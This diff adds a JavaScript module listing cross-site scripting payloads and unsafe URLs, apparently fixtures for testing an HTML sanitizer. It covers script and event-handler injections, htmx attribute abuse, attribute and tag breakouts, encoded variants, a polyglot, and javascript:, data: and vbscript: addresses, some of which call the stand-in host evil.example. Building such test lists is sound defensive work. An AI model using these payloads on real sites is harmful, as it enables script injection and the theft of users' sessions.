@@ -1,0 +1,85 @@
+// What people put where words belong, to have it run: one for each way a page may be fooled. Each sets
+// `pwned`, opens a dialog or asks a foreign host when it succeeds.
+
+export const FOREIGN = "evil.example";
+
+export const PAYLOADS = Object.freeze([
+  // Elements.
+  "<script>window.pwned=1</script>",
+  `<script src=//${FOREIGN}/x.js></script>`,
+  "<img src=x onerror=window.pwned=1>",
+  `<img src=//${FOREIGN}/x.png>`,
+  "<svg onload=window.pwned=1>",
+  "<svg><animate onbegin=alert(1) attributeName=x>",
+  "<svg><script>alert(1)</script></svg>",
+  "<math><mtext><img src=x onerror=alert(1)>",
+  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+  `<iframe src=//${FOREIGN}></iframe>`,
+  `<object data=//${FOREIGN}></object>`,
+  `<embed src=//${FOREIGN}>`,
+  `<base href=//${FOREIGN}/>`,
+  `<meta http-equiv=refresh content='0;url=//${FOREIGN}'>`,
+  `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
+  `<style>@import '//${FOREIGN}/x.css'</style>`,
+  "<body onpageshow=alert(1)>",
+  "<details open ontoggle=window.pwned=1>",
+  "<video><source onerror=window.pwned=1></video>",
+  "<input autofocus onfocus=window.pwned=1>",
+  `<form action=//${FOREIGN}><button autofocus>x`,
+  "<a href=javascript:alert(1) autofocus>x</a>",
+  // Of htmx, whose attributes are code by themselves.
+  `<div hx-get=//${FOREIGN} hx-trigger=load>`,
+  "<div hx-on:load=window.pwned=1 hx-on::load=window.pwned=1>",
+  "<div hx-vals='js:{x:window.pwned=1}' hx-get=/ hx-trigger=load>",
+  "<hx-partial hx-target=body><img src=x onerror=alert(1)></hx-partial>",
+  // Out of attributes, comments, titles, templates and raw texts.
+  "\"><script>window.pwned=1</script>",
+  "'><script>window.pwned=1</script>",
+  "\" onmouseover=\"window.pwned=1\" x=\"",
+  "' autofocus onfocus='window.pwned=1' x='",
+  "` onerror=`window.pwned=1`",
+  "--><script>window.pwned=1</script><!--",
+  "</title><script>window.pwned=1</script>",
+  "</textarea><script>window.pwned=1</script>",
+  "</template><script>window.pwned=1</script>",
+  "</noscript><script>window.pwned=1</script>",
+  "</script><script>window.pwned=1</script>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  // Escaped once already, for whoever decodes once too often.
+  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+  "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+  "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+  "＜script＞window.pwned=1＜/script＞",
+  "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+  // Templates and code.
+  "${window.pwned=1}",
+  "{{constructor.constructor('window.pwned=1')()}}",
+  "javascript:window.pwned=1",
+  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
+  "<scr\u0000ipt>window.pwned=1</scr\u0000ipt>",
+  "\u202e<img src=x onerror=alert(1)>",
+]);
+
+/** Addresses that must lead nowhere, or only where they say. */
+export const ADDRESSES = Object.freeze([
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)//https://a.example/x.png",
+  "java\tscript:alert(1)",
+  "\u0001javascript:alert(1)",
+  "data:text/html,<script>parent.pwned=1</script>",
+  "data:image/svg+xml,<svg onload=alert(1)>",
+  "vbscript:msgbox(1)",
+  "blob:https://a.example/1",
+  `//${FOREIGN}/x.png`,
+  `\\\\${FOREIGN}\\x.png`,
+  `https:${FOREIGN}/x.png`,
+  `https://${FOREIGN}/x.png" onerror="window.pwned=1`,
+  `https://${FOREIGN}/'onerror='window.pwned=1'.png`,
+  `https://${FOREIGN}/<script>window.pwned=1</script>.png`,
+  `https://user:pass@${FOREIGN}/x.png`,
+  `https://${FOREIGN}/x.png`,
+  "https://[::1]/x.png",
+  "/logout",
+  "",
+]);
